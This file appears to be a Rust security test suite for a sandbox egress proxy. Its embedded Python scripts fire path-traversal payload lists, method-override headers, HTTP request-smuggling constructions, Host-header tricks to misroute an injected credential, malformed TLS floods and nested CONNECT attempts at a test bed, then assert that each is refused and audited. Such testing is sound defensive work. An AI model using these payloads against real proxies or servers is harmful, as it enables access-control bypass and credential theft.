//! Method and path rules as a channel, proxy-side credential injection toward hosts,
//! paths and methods it must not reach, fail-open under stress with TLS interception, and
//! CONNECT where none is served. From inside real sandboxes as root, through the
//! product's contracts only (job file, host config, CLI, audit log), against the bed's
//! servers.
//!
//! The restricted host is `second.test` (198.51.100.11): `methods: [GET, HEAD]`,
//! `paths: ["/ok/*"]`. Every attack path carries `leak`; a web hit whose path (before
//! the query) holds `leak`, or whose method is neither GET nor HEAD, got through.

use std::path::Path;
use std::process::Output;

use egress_proxy::policy;
use runner_agent_tests::agent::{describe, python_step, random_value, World};
use runner_agent_tests::netbed::{allowed_test_config, settle, NetBed, WebHit};
use runner_agent_tests::require_privilege;

const PRELUDE: &str = r#"
import concurrent.futures, threading
W2 = "198.51.100.11"
R = "second.test"
def show(label, out):
    print("ATTEMPT", label, "->", statuses(out) or repr(out[:120]), flush=True)
def tls_wrap(sock, name, alpn=("http/1.1",)):
    ctx = ssl.create_default_context()
    if alpn:
        ctx.set_alpn_protocols(list(alpn))
    return ctx.wrap_socket(sock, server_hostname=name)
def over_tls(sock, name, parts, wait=1.5, alpn=("http/1.1",)):
    try:
        t = tls_wrap(sock, name, alpn)
    except (OSError, ssl.SSLError) as e:
        return ("TLSERR %s" % e).encode()
    try:
        for p in (parts if isinstance(parts, list) else [parts]):
            t.sendall(p)
            time.sleep(0.05)
    except (OSError, ssl.SSLError) as e:
        return ("SENDERR %s" % e).encode()
    return read_all(t, wait)
def via_connect(parts, authority=None, name=None, wait=1.5, alpn=("http/1.1",)):
    s, head = connect_tunnel(authority or (R + ":443"))
    if b" 200" not in head.split(b"\r\n")[0]:
        s.close()
        return head
    return over_tls(s, name or R, parts, wait, alpn)
def via_transparent_tls(parts, ip=W2, name=None, wait=1.5, alpn=("http/1.1",)):
    try:
        s = socket.create_connection((ip, 443), timeout=5)
    except OSError as e:
        return ("ERR %s" % e).encode()
    return over_tls(s, name or R, parts, wait, alpn)
def send(chan, parts, wait=1.5):
    if chan == "e":
        return raw(E, parts, wait=wait)
    if chan == "t":
        return raw((W2, 80), parts, wait=wait)
    if chan == "c":
        return via_connect(parts, wait=wait)
    if chan == "x":
        return via_transparent_tls(parts, wait=wait)
    raise ValueError(chan)
def target(chan, path):
    # The explicit proxy takes absolute-form; the others origin-form.
    if chan == "e":
        return "http://" + R + path
    return path
"#;

/// [`python_step`] with this file's [`PRELUDE`].
fn py_step(name: &str, script: &str, args: &str) -> String {
    python_step(name, PRELUDE, script, args)
}

fn write_bed_ca(bed: &NetBed, dir: &Path) -> String {
    let path = dir.join("bed-ca.pem");
    std::fs::write(&path, bed.ca_pem()).expect("write CA");
    path.to_string_lossy().into_owned()
}

/// A bed and a world whose environment also has `extra_rules` and `extra_env`, with the
/// bed's CA as the agent's upstream roots (for terminated TLS).
fn bed_and_world(extra_rules: &str, extra_env: &str) -> (NetBed, World) {
    let bed = NetBed::new().expect("net bed");
    let world = World::in_netns(
        bed.host_ns(),
        "",
        &allowed_test_config(extra_rules, extra_env),
    );
    let ca = write_bed_ca(&bed, world.dir.path());
    let world = world.with_agent_env("SSL_CERT_FILE", &ca);
    (bed, world)
}

/// Runs the steps `steps` as job `name`; returns the output, the raw audit lines and
/// the parsed events (a line that is not one JSON object fails the test).
fn run_job(world: &World, name: &str, steps: &str) -> (Output, String, Vec<serde_json::Value>) {
    let job = world.job(
        &format!("{name}.yaml"),
        &format!("name: {name}\nsteps:\n{steps}"),
    );
    let (output, path) = world.run_audited_to(&job);
    settle();
    let log = std::fs::read_to_string(&path).unwrap_or_default();
    let mut events = Vec::new();
    let mut bad = Vec::new();
    for line in log.lines() {
        match serde_json::from_str::<serde_json::Value>(line) {
            Ok(v) if v.is_object() => events.push(v),
            _ => bad.push(line.to_owned()),
        }
    }
    println!("{}", describe(&output));
    assert!(bad.is_empty(), "audit lines that are not JSON: {bad:#?}");
    world.assert_job_left_nothing(&output);
    (output, log, events)
}

/// Hits that the restricted rule denies: a `leak` path (query ignored) or a method
/// other than GET and HEAD, at the restricted host's address.
fn denied_hits(bed: &NetBed) -> Vec<WebHit> {
    bed.web_hits()
        .into_iter()
        .filter(|h| {
            let path = h.path.split('?').next().unwrap_or("");
            path.contains("leak") || !(h.method == "GET" || h.method == "HEAD")
        })
        .collect()
}

fn print_hits(bed: &NetBed) {
    for h in bed.web_hits() {
        println!(
            "HIT {} {} host={:?} sni={:?} at {} headers={:?}",
            h.method, h.path, h.host, h.sni, h.local, h.headers
        );
    }
}

/// The attempts (label, statuses) the job printed.
fn attempts(output: &Output) -> Vec<(String, String)> {
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .filter_map(|l| l.strip_prefix("ATTEMPT "))
        .filter_map(|l| l.split_once(" -> "))
        .map(|(a, b)| (a.trim().to_owned(), b.trim().to_owned()))
        .collect()
}

/// Labels of refused attempts (a 4xx or a closed connection) with no deny event naming
/// their tag in its path, and no path-less deny event to account for them.
fn unaudited(output: &Output, events: &[serde_json::Value]) -> Vec<String> {
    let denies: Vec<&serde_json::Value> =
        events.iter().filter(|e| e["verdict"] == "deny").collect();
    let mut pathless = denies.iter().filter(|e| e["path"].is_null()).count();
    let mut missing = Vec::new();
    for (label, got) in attempts(output) {
        let Some(tag) = label.split_whitespace().next() else {
            continue;
        };
        if !tag.contains("leak") {
            continue;
        }
        let refused = !got.starts_with(|c: char| c.is_ascii_digit())
            || got
                .split_whitespace()
                .any(|s| s.starts_with('4') || s.starts_with('5'));
        if !refused {
            continue;
        }
        let named = denies
            .iter()
            .any(|e| e["path"].as_str().is_some_and(|p| p.contains(tag)));
        if named {
            continue;
        }
        if pathless > 0 {
            pathless -= 1;
            continue;
        }
        missing.push(format!("{label} -> {got}"));
    }
    missing
}

// ------------------------------------------------------------ 1. methods and paths

const RESTRICTED: &str =
    "        - host: second.test\n          methods: [GET, HEAD]\n          paths: [\"/ok/*\"]\n";

const PATHS_AND_METHODS: &str = r#"
C = "Connection: close\r\n"
def req(chan, method, path, headers="", version="HTTP/1.1", body=b""):
    line = "%s %s %s\r\n" % (method, target(chan, path), version)
    return (line + "Host: " + R + "\r\n" + headers + "\r\n").encode("latin1") + body
PATHS = [
    "/ok/../{T}",
    "/ok/%2e%2e/{T}",
    "/ok/.%2E/{T}",
    "/ok%2f..%2f{T}",
    "/ok/..%2f{T}",
    "/ok/..;/{T}",
    "/ok/;x=1/../{T}",
    "/ok/..\\{T}",
    "/ok/%5c..%5c{T}",
    "/ok/%c0%ae%c0%ae/{T}",
    "/ok/%252e%252e/{T}",
    "/ok/..%00/{T}",
    "/OK/{T}",
    "//ok/{T}",
    "/ok/x/{T}",
    "/ok/./{T}",
    "/./ok/{T}",
    "/ok/..%c0%af{T}",
    "/ok/%2e%2e%2f{T}",
    "/ok/%u002e%u002e/{T}",
    "/ok/x%09/../{T}",
    "/ok/..%0d%0a/{T}",
    "/ok/x#/../../{T}",
    "/ok%23/../{T}",
    "/ok/.../{T}",
    "/ok/..%20/{T}",
    "/ok/..%2e/{T}",
    "/ok/%2e./{T}",
    "/%6fk/{T}",
    "/ok/..%5c{T}",
]
# Unicode look-alikes: fullwidth dots and solidus, which NFKC-normalising servers read
# as `../` (they once passed `/ok/*` as written).
UNICODE = [
    "/ok/%ef%bc%8e%ef%bc%8e%ef%bc%8f{T}",
    "/ok/\uff0e\uff0e\uff0f{T}",
]
METHODS = ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "PROPFIND", "get", "Get", "gEt", "HEAD ", "GETX", "MKCOL", "M-SEARCH", "PRI"]
jobs = []
for chan in ("e", "t", "c", "x"):
    for i, p in enumerate(PATHS):
        tag = "leak-p%02d-%s" % (i, chan)
        path = p.replace("{T}", tag)
        jobs.append(("%s %s" % (tag, path), chan, req(chan, "GET", path, C)))
    for i, p in enumerate(UNICODE):
        tag = "leak-uni-%02d-%s" % (i, chan)
        path = p.replace("{T}", tag)
        data = ("GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target(chan, path), R, C)).encode("utf-8")
        jobs.append(("%s %s" % (tag, path), chan, data))
    for i, m in enumerate(METHODS):
        tag = "leak-m%02d-%s" % (i, chan)
        body = b"x" * 5
        jobs.append(("%s %s" % (tag, m), chan, req(chan, m, "/ok/" + tag, "Content-Length: 5\r\n" + C, body=body)))
    # Controls: allowed reads.
    jobs.append(("okget-%s" % chan, chan, req(chan, "GET", "/ok/okget-" + chan, C)))
    jobs.append(("okhead-%s" % chan, chan, req(chan, "HEAD", "/ok/okhead-" + chan, C)))
    # Writes through an allowed read: override headers, a body on GET, the query.
    jobs.append(("leak-override-%s" % chan, chan, req(chan, "GET", "/ok/leak-override-" + chan, "X-HTTP-Method-Override: DELETE\r\nX-HTTP-Method: PUT\r\nX-Method-Override: POST\r\nX-Original-URL: /leak-xo-%s\r\nX-Rewrite-URL: /leak-xr-%s\r\n" % (chan, chan) + C)))
    for i, h in enumerate(["X-HTTP-Method-Override: DELETE", "x-http-method: PUT", "X-Method-Override: POST", "X-Original-URL: /leak-xo", "X-Rewrite-URL: /leak-xr", "X_HTTP_METHOD_OVERRIDE: DELETE", "X-Forwarded-Host: tenant.test"]):
        tag = "leak-ovr%d-%s" % (i, chan)
        jobs.append((tag, chan, req(chan, "GET", "/ok/" + tag, h + "\r\n" + C)))
    tag = "leak-ovrq-%s" % chan
    jobs.append((tag, chan, req(chan, "GET", "/ok/%s?_method=DELETE" % tag, C)))
    jobs.append(("okbody-%s" % chan, chan, req(chan, "GET", "/ok/okbody-" + chan, "Content-Length: 4096\r\n" + C, body=b"B" * 4096)))
    # HTTP/1.0 and a missing Host.
    jobs.append(("leak-v10-%s" % chan, chan, req(chan, "POST", "/ok/leak-v10-" + chan, "Content-Length: 0\r\n", version="HTTP/1.0")))
    jobs.append(("leak-v10b-%s" % chan, chan, ("DELETE %s HTTP/1.0\r\n\r\n" % target(chan, "/ok/leak-v10b-" + chan)).encode()))
    # Expect: 100-continue on a denied method, then the body anyway.
    jobs.append(("leak-exp-%s" % chan, chan, [req(chan, "POST", "/ok/leak-exp-" + chan, "Expect: 100-continue\r\nContent-Length: 5\r\n" + C), b"hello"]))
    # Expect on an allowed GET, then a body that is a whole denied request.
    inner = req(chan, "POST", "/ok/leak-expin-" + chan, "Content-Length: 0\r\n" + C)
    jobs.append(("okexp-%s" % chan, chan, [req(chan, "GET", "/ok/okexp-" + chan, "Expect: 100-continue\r\nContent-Length: %d\r\n" % len(inner)), inner]))
    # Pipelined: an allowed read, then a write, then a denied path.
    jobs.append(("leak-pipe-%s" % chan, chan, req(chan, "GET", "/ok/okpipe-" + chan) + req(chan, "POST", "/ok/leak-pipe-" + chan, "Content-Length: 0\r\n") + req(chan, "GET", "/leak-pipe2-" + chan, C)))
    # Chunked smuggling: a terminated chunked body then a denied request; chunk data that
    # is itself a request; chunk extensions; CL and TE together; TE variants.
    jobs.append(("leak-chunk-%s" % chan, chan, req(chan, "GET", "/ok/okchunk-" + chan, "Transfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req(chan, "DELETE", "/ok/leak-chunk-" + chan, C)))
    smug = req(chan, "DELETE", "/ok/leak-chunkin-" + chan, C)
    jobs.append(("leak-chunkin-%s" % chan, chan, req(chan, "GET", "/ok/okchunkin-" + chan, "Transfer-Encoding: chunked\r\n" + C) + (b"%x;ext=1\r\n" % len(smug)) + smug + b"\r\n0\r\n\r\n"))
    jobs.append(("leak-clte-%s" % chan, chan, req(chan, "GET", "/ok/okclte-" + chan, "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + b"0\r\n\r\n" + req(chan, "DELETE", "/ok/leak-clte-" + chan, C)))
    jobs.append(("leak-teid-%s" % chan, chan, req(chan, "GET", "/ok/okteid-" + chan, "Transfer-Encoding: identity\r\nContent-Length: 5\r\n") + req(chan, "DELETE", "/ok/leak-teid-" + chan, C)))
    jobs.append(("leak-tecomma-%s" % chan, chan, req(chan, "GET", "/ok/oktecomma-" + chan, "Transfer-Encoding: identity, chunked\r\n") + b"0\r\n\r\n" + req(chan, "DELETE", "/ok/leak-tecomma-" + chan, C)))
    jobs.append(("leak-cl2-%s" % chan, chan, req(chan, "GET", "/ok/okcl2-" + chan, "Content-Length: 0\r\nContent-Length: 60\r\n") + req(chan, "DELETE", "/ok/leak-cl2-" + chan, C)))
    jobs.append(("leak-clsign-%s" % chan, chan, req(chan, "GET", "/ok/okclsign-" + chan, "Content-Length: +0\r\n") + req(chan, "DELETE", "/ok/leak-clsign-" + chan, C)))
    # Bare CR and LF line ends, and a second request line hidden after bare CR.
    jobs.append(("leak-barecr-%s" % chan, chan, ("GET /ok/okbarecr-%s HTTP/1.1\rDELETE /ok/leak-barecr-%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (chan, chan, R, C)).encode()))
    # h2c upgrade on an allowed GET, then the HTTP/2 preface.
    jobs.append(("leak-h2c-%s" % chan, chan, [req(chan, "GET", "/ok/okh2c-" + chan, "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n"), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", req(chan, "DELETE", "/ok/leak-h2c-" + chan, C)]))
    # The absolute form naming another path than an origin-form would.
    jobs.append(("leak-absform-%s" % chan, chan, ("GET http://%s/leak-absform-%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (R, chan, R, C)).encode()))
    jobs.append(("leak-abshttps-%s" % chan, chan, ("DELETE https://%s/ok/leak-abshttps-%s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (R, chan, R, C)).encode()))
# Plain HTTP in a CONNECT tunnel to the restricted host on port 80.
jobs.append(("leak-tun80-c", "tun", None))
def run(job):
    label, chan, data = job
    if chan == "tun":
        s, head = connect_tunnel(R + ":80")
        if b" 200" not in head.split(b"\r\n")[0]:
            s.close()
            return label, head
        s.sendall(("DELETE /ok/leak-tun80-c HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (R, C)).encode())
        out = read_all(s, 2)
        s.close()
        return label, out
    return label, send(chan, data, wait=1.2)
with concurrent.futures.ThreadPoolExecutor(max_workers=8) as pool:
    for label, out in pool.map(run, jobs):
        show(label, out)
print("DONE-PATHS", flush=True)
"#;

/// The restricted host, on all four ways in (explicit, transparent HTTP, CONNECT with
/// terminated TLS, transparent TLS terminated): path spellings that normalise elsewhere,
/// method spellings, override headers, HTTP/1.0, Expect, pipelining, chunked and
/// Content-Length smuggling, bare CR, h2c. Nothing denied reaches the server, and each
/// refused attempt leaves a deny event naming its path (or a path-less malformed one).
#[test]
fn method_and_path_rules_hold_on_every_way_in() {
    require_privilege!();
    let (bed, world) = bed_and_world(RESTRICTED, "");
    let steps = py_step("paths and methods", PATHS_AND_METHODS, "");
    let (output, _, events) = run_job(&world, "rt5paths", &steps);
    print_hits(&bed);
    for e in events.iter().filter(|e| e["verdict"] == "deny") {
        println!("DENY {e}");
    }
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(stdout.contains("DONE-PATHS"), "the attack did not finish");
    let hits = bed.web_hits();
    for chan in ["e", "t", "c", "x"] {
        assert!(
            hits.iter().any(|h| h.path == format!("/ok/okget-{chan}")),
            "control GET on {chan} did not arrive"
        );
    }
    // An override header asks the server for another method, path or host: none reaches it
    // (an allowed read with `X-HTTP-Method-Override: DELETE` once did).
    for h in &hits {
        for name in policy::OVERRIDE_HEADERS
            .iter()
            .map(|n| n.to_string())
            .chain(std::iter::once("x_http_method_override".to_owned()))
        {
            assert!(
                h.header_values(&name).is_empty(),
                "{name} arrived with {} {}",
                h.method,
                h.path
            );
        }
    }
    let override_denials = events
        .iter()
        .filter(|e| {
            e["verdict"] == "deny"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("another method, path or host"))
        })
        .count();
    assert_eq!(
        override_denials,
        4 * 9,
        "one per override attempt and way in"
    );
    let through = denied_hits(&bed);
    let missing = unaudited(&output, &events);
    assert!(through.is_empty(), "denied requests arrived: {through:#?}");
    assert!(
        missing.is_empty(),
        "refused attempts without an event: {missing:#?}"
    );
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
}

// ------------------------------------------------------------ 2. credential injection

const BOUND: &str = "        - host: second.test\n          ports: [443]\n          methods: [GET, HEAD]\n          paths: [\"/ok/*\"]\n";

const BOUND_SECRET: &str = "    secrets:\n      PROXY_TOKEN:\n        deliver: proxy\n        hosts: [second.test]\n        header: Authorization\n        format: \"Bearer {secret}\"\n";

const CRED: &str = r#"
C = "Connection: close\r\n"
def g(path, headers="", method="GET", host=None):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (method, path, host or R, headers)).encode("latin1")
W1 = "198.51.100.10"
A = []
A.append(("cred-a01", lambda: via_connect([g("/ok/cred-a01", C)])))
A.append(("leak-a02", lambda: via_connect([g("/ok/leak-a02", "Content-Length: 0\r\n" + C, "POST")])))
A.append(("leak-a03", lambda: via_connect([g("/leak-a03", C)])))
A.append(("leak-a04", lambda: via_connect([g("/ok/cred-a04"), g("/ok/leak-a04", C, host="allowed.test")])))
A.append(("leak-a05", lambda: via_connect([("GET https://allowed.test/ok/leak-a05 HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (R, C)).encode()])))
A.append(("leak-a06", lambda: via_connect([("GET http://%s:80/ok/leak-a06 HTTP/1.1\r\nHost: %s:80\r\n%s\r\n" % (R, R, C)).encode()])))
A.append(("cred-a07", lambda: via_connect([g("/ok/cred-a07", C, host="SECOND.TEST.")])))
A.append(("cred-a08", lambda: via_connect([g("/ok/cred-a08", C, host="second.test:443")])))
A.append(("leak-a09", lambda: via_connect([g("/ok/leak-a09", C)], alpn=("h2",))))
A.append(("leak-a10", lambda: via_connect([g("/ok/cred-a10", "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n"), b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"])))
A.append(("cred-a11", lambda: via_connect([g("/ok/cred-a11", "Authorization: Bearer job-one\r\nauthorization: Bearer job-two\r\nAUTHORIZATION: job-three\r\nProxy-Authorization: Basic am9iOmpvYg==\r\nConnection: keep-alive, Authorization\r\n" + C)])))
A.append(("leak-a11b", lambda: via_connect([g("/ok/leak-a11b", "Authorization: Bearer job\r\n fold-continued\r\n" + C)])))
A.append(("cred-a12", lambda: via_connect([g("/ok/cred-a12", "X-Api-Key: job-key\r\nCookie: session=job-session\r\nPrivate-Token: job-pat\r\n" + C)])))
A.append(("leak-a13", lambda: via_transparent_tls([g("/ok/leak-a13", C)], ip=W1)))
A.append(("cred-a14", lambda: via_transparent_tls([g("/ok/cred-a14", C)])))
A.append(("leak-a15", lambda: via_transparent_tls([g("/ok/leak-a15", C, host="allowed.test")], name="allowed.test")))
A.append(("leak-a16", lambda: raw(E, ("GET http://%s/ok/leak-a16 HTTP/1.1\r\n%s\r\n" % (W2, C)).encode())))
A.append(("leak-a17", lambda: via_connect([g("/ok/leak-a17", C)], authority=W2 + ":443")))
A.append(("leak-a18", lambda: raw((W2, 80), g("/ok/leak-a18", C, host=W2))))
A.append(("leak-a19", lambda: raw((W1, 80), g("/ok/leak-a19", C))))
A.append(("leak-a20", lambda: raw(E, ("GET http://%s/ok/leak-a20 HTTP/1.1\r\n%s\r\n" % (R, C)).encode())))
A.append(("leak-a20b", lambda: raw((W2, 80), g("/ok/leak-a20b", C))))
A.append(("leak-a20c", lambda: raw(E, ("GET http://%s:443/ok/leak-a20c HTTP/1.1\r\n%s\r\n" % (R, C)).encode())))
A.append(("cred-a21", lambda: via_connect([g("/ok/cred-a21", C)], authority="SECOND.test.:443", name="second.TEST")))
A.append(("leak-a22", lambda: via_connect([g("/ok/leak-a22", C, host="second.test\x00.allowed.test")])))
A.append(("leak-a23", lambda: via_connect([g("/ok/leak-a23", C)], authority=R + ":8443")))
A.append(("leak-a24", lambda: via_connect([g("/ok/leak-a24", C, host="second.test@allowed.test")])))
A.append(("leak-a25", lambda: via_connect([g("/ok/cred-a25"), g("/ok/leak-a25", "Content-Length: 0\r\n" + C, "PUT")])))
A.append(("leak-a26", lambda: via_connect([g("/ok/cred-a26", "Content-Length: 3\r\n") + b"abcGET /ok/leak-a26 HTTP/1.1\r\nHost: allowed.test\r\n" + C.encode() + b"\r\n"])))
A.append(("leak-a27", lambda: via_connect([g("/ok/leak-a27", C, host="second.test:80")])))
A.append(("leak-a28", lambda: via_connect([g("/ok/leak-a28", C, host="xn--second-.test")])))
A.append(("leak-a29", lambda: via_connect([b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n"])))
A.append(("leak-a30", lambda: via_connect([g("/ok/cred-a30", "Expect: 100-continue\r\nContent-Length: 4\r\n"), b"body", g("/ok/leak-a30", C, "DELETE")])))
A.append(("cred-a31", lambda: via_connect([g("/ok/cred-a31", "Authorization:\tBearer\tjob-tab\r\nauthorization : x\r\n" + C)])))
A.append(("cred-a32", lambda: via_connect([g("/ok/cred-a32", "Authorization: Bearer job-a\r\n" + C)])))
for label, f in A:
    try:
        show(label, f())
    except Exception as e:
        print("ATTEMPT", label, "-> EXC", e, flush=True)
print("DONE-CRED", flush=True)
"#;

/// A `deliver: proxy` credential bound to the restricted host `second.test` (port 443
/// only): the credential arrives only with allowed reads to that host, never at another
/// host, another port, an address literal or a denied method or path; the job's own
/// Authorization never survives; the value is in neither stdout nor the audit log.
#[test]
fn a_bound_credential_goes_only_with_allowed_requests_to_its_host() {
    require_privilege!();
    let (bed, world) = bed_and_world(BOUND, BOUND_SECRET);
    let secret = random_value("rt5cred");
    world.set_secret("default", "PROXY_TOKEN", &secret);
    let steps = py_step("credential", CRED, "");
    let (output, log, events) = run_job(&world, "rt5cred", &steps);
    print_hits(&bed);
    for e in events.iter().filter(|e| e["verdict"] == "deny") {
        println!("DENY {e}");
    }
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(stdout.contains("DONE-CRED"), "the attack did not finish");
    let hits = bed.web_hits();
    let value = format!("Bearer {secret}");
    let mut wrong = Vec::new();
    for h in &hits {
        let auth = h.header_values("authorization");
        let carries = auth.iter().any(|v| v.contains(&secret));
        let right_place = h.sni.as_deref() == Some("second.test")
            && h.host.as_deref() == Some("second.test")
            && h.local.port() == 443
            && h.path.starts_with("/ok/cred-")
            && (h.method == "GET" || h.method == "HEAD");
        if carries && !right_place {
            wrong.push(format!(
                "credential at {} {} {:?}",
                h.method, h.path, h.host
            ));
        }
        if right_place && auth != vec![value.as_str()] {
            wrong.push(format!("{} carries {auth:?}", h.path));
        }
    }
    for tag in ["a01", "a07", "a08", "a11", "a14", "a21", "a32"] {
        assert!(
            hits.iter().any(|h| h.path == format!("/ok/cred-{tag}")),
            "control cred-{tag} did not arrive"
        );
    }
    let through = denied_hits(&bed);
    let missing = unaudited(&output, &events);
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(through.is_empty(), "denied requests arrived: {through:#?}");
    assert!(!log.contains(&secret), "the audit log holds the secret");
    assert!(!stdout.contains(&secret), "stdout holds the secret");
    assert!(
        missing.is_empty(),
        "refused attempts without an event: {missing:#?}"
    );
    // Each credential sent is named in an allow event of the bound host.
    let added = events
        .iter()
        .filter(|e| {
            e["verdict"] == "allow"
                && e["host"] == "second.test"
                && e["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("credential PROXY_TOKEN added"))
        })
        .count();
    let carried = hits
        .iter()
        .filter(|h| {
            h.header_values("authorization")
                .iter()
                .any(|v| v.contains(&secret))
        })
        .count();
    assert!(
        added >= carried,
        "{carried} requests carried the credential, {added} events say so"
    );
}

// ------------------------------------------------------------ 3. stress with interception

const STRESS: &str = r#"
import random
C = "Connection: close\r\n"
def g(path, headers="", method="GET", host=None):
    return ("%s %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (method, path, host or R, headers)).encode("latin1")
stop = threading.Event()
results = {"garbage": 0, "huge": 0, "half": 0, "err": 0}
held = []
lock = threading.Lock()
def garbage(i):
    # A real handshake with the proxy's leaf, then records the proxy cannot decrypt,
    # oversized records, or a record header announcing 64 KiB that never comes.
    try:
        s, head = connect_tunnel(R + ":443")
        if b" 200" not in head:
            return "refused"
        t = tls_wrap(s, R)
        # A duplicate of the TLS socket's descriptor: raw bytes on the same connection.
        sock = socket.fromfd(t.fileno(), socket.AF_INET, socket.SOCK_STREAM)
        kind = i % 3
        if kind == 0:
            sock.sendall(b"\x17\x03\x03\x40\x00" + os.urandom(0x4000))
        elif kind == 1:
            sock.sendall(b"\x17\x03\x03\xff\xff" + os.urandom(4096))
        else:
            sock.sendall(b"\x16\x03\x03\x48\x01" + b"\x01" * 100)
        with lock:
            held.append(sock)
            held.append(t)
        return "sent"
    except Exception as e:
        return "exc %s" % type(e).__name__
def hello_bomb(i):
    # ClientHellos for the intercepted name with oversize and malformed extensions.
    s, head = connect_tunnel(R + ":443")
    if b" 200" not in head:
        return "refused"
    ext = b"\x00\x15" + u16(20000) + b"\x00" * 20000 if i % 2 else b"\xff\x01" + u16(1) + b"\x00" + b"\x00\x2b" + u16(3) + b"\x02\x7f\x7f"
    try:
        s.sendall(client_hello([R.encode()], ext_extra=ext))
        s.settimeout(2)
        out = s.recv(100)
    except OSError as e:
        out = str(e).encode()
    with lock:
        held.append(s)
    return repr(out[:20])
t0 = time.time()
with concurrent.futures.ThreadPoolExecutor(max_workers=32) as pool:
    outs = list(pool.map(garbage, range(150))) + list(pool.map(hello_bomb, range(40)))
print("stress outcomes", {o: outs.count(o) for o in set(outs)}, "in %.1fs" % (time.time() - t0), flush=True)
# While those are held open: attempts that must be refused and recorded.
show("leak-s01", via_connect([g("/ok/leak-s01", "Content-Length: 0\r\n" + C, "POST")]))
show("leak-s02", via_connect([g("/leak-s02", C)]))
show("leak-s03", raw(E, b"GET http://evil.test/leak-s03 HTTP/1.1\r\nConnection: close\r\n\r\n"))
show("leak-s04", via_transparent_tls([g("/ok/leak-s04", C)], ip="198.51.100.10"))
show("leak-s05", raw(("198.51.100.11", 80), g("/ok/leak-s05", C, "DELETE")))
# A large upload through a terminated tunnel to an allowed read, while not reading the
# answer: the proxy must not buffer it.
def upload():
    s, head = connect_tunnel(R + ":443")
    t = tls_wrap(s, R)
    n = 64 * 1024 * 1024
    t.sendall(g("/ok/okbig", "Content-Length: %d\r\n" % n))
    chunk = b"U" * 65536
    sent = 0
    t.settimeout(10)
    try:
        while sent < n:
            t.sendall(chunk)
            sent += len(chunk)
    except (OSError, ssl.SSLError) as e:
        return "upload stopped at %d: %s" % (sent, e)
    return "upload sent %d: %s" % (sent, statuses(read_all(t, 5)))
print("ATTEMPT okbig ->", upload(), flush=True)
for s in held:
    try:
        s.close()
    except Exception:
        pass
time.sleep(0.5)
show("okafter", via_connect([g("/ok/okafter", C)]))
show("leak-s06", via_connect([g("/ok/leak-s06", "Content-Length: 0\r\n" + C, "PUT")]))
print("DONE-STRESS", flush=True)
"#;

/// Many intercepted tunnels at once carrying undecryptable, oversized and truncated TLS
/// records, oversized ClientHellos for the intercepted name, and a 64 MiB upload through
/// a terminated tunnel: while the proxy works through them, denied attempts are refused
/// and recorded, nothing denied arrives, and afterwards the proxy still serves.
#[test]
fn intercepted_tunnels_under_stress_fail_closed() {
    require_privilege!();
    let (bed, world) = bed_and_world(
        RESTRICTED
            .replace("[\"/ok/*\"]", "[\"/ok/*\"]\n          ports: [80, 443]")
            .as_str(),
        BOUND_SECRET,
    );
    let secret = random_value("rt5stress");
    world.set_secret("default", "PROXY_TOKEN", &secret);
    let steps = format!(
        "  - name: raise nofile\n    run: ulimit -n 4096 || true\n{}",
        py_step("stress", STRESS, "")
    );
    let started = std::time::Instant::now();
    let (output, log, events) = run_job(&world, "rt5stress", &steps);
    println!("job took {:?}", started.elapsed());
    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
    let mut reasons: std::collections::BTreeMap<String, usize> = Default::default();
    for e in events.iter().filter(|e| e["verdict"] == "deny") {
        let r: String = e["reason"]
            .as_str()
            .unwrap_or("")
            .chars()
            .take(100)
            .collect();
        *reasons.entry(r).or_default() += 1;
    }
    println!("deny reasons: {reasons:#?}");
    for e in events.iter().filter(|e| e["verdict"] == "allow") {
        println!("ALLOW {e}");
    }
    let big = events
        .iter()
        .find(|e| e["path"] == "/ok/okbig")
        .expect("an event for the upload");
    println!("upload event: {big}");
    let hits = bed.web_hits();
    println!(
        "hits: {:?}",
        hits.iter()
            .map(|h| (&h.method, &h.path))
            .collect::<Vec<_>>()
    );
    assert!(stdout.contains("DONE-STRESS"), "the attack did not finish");
    assert!(
        stdout.contains("ATTEMPT okafter -> 200"),
        "the proxy no longer serves"
    );
    let through = denied_hits(&bed);
    assert!(through.is_empty(), "denied requests arrived: {through:#?}");
    assert!(bed.trap_hits().is_empty(), "{:?}", bed.trap_hits());
    assert!(!log.contains(&secret) && !stdout.contains(&secret));
    let missing = unaudited(&output, &events);
    assert!(
        missing.is_empty(),
        "refused attempts without an event: {missing:#?}"
    );
    assert_eq!(output.status.code(), Some(0), "{}", describe(&output));
}

// ------------------------------------------------------------ 4. nested CONNECT audit

const NESTED: &str = r#"
N = "nested-%s.evil.test:443"
def conn(name):
    return ("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (name, name)).encode()
show("nested-transparent", raw(("198.51.100.10", 80), conn(N % "transparent")))
s, head = connect_tunnel("allowed.test:80")
s.sendall(conn(N % "tunnel"))
show("nested-tunnel", read_all(s, 1.5))
show("nested-terminated", via_connect([conn(N % "terminated")]))
print("DONE-NESTED", flush=True)
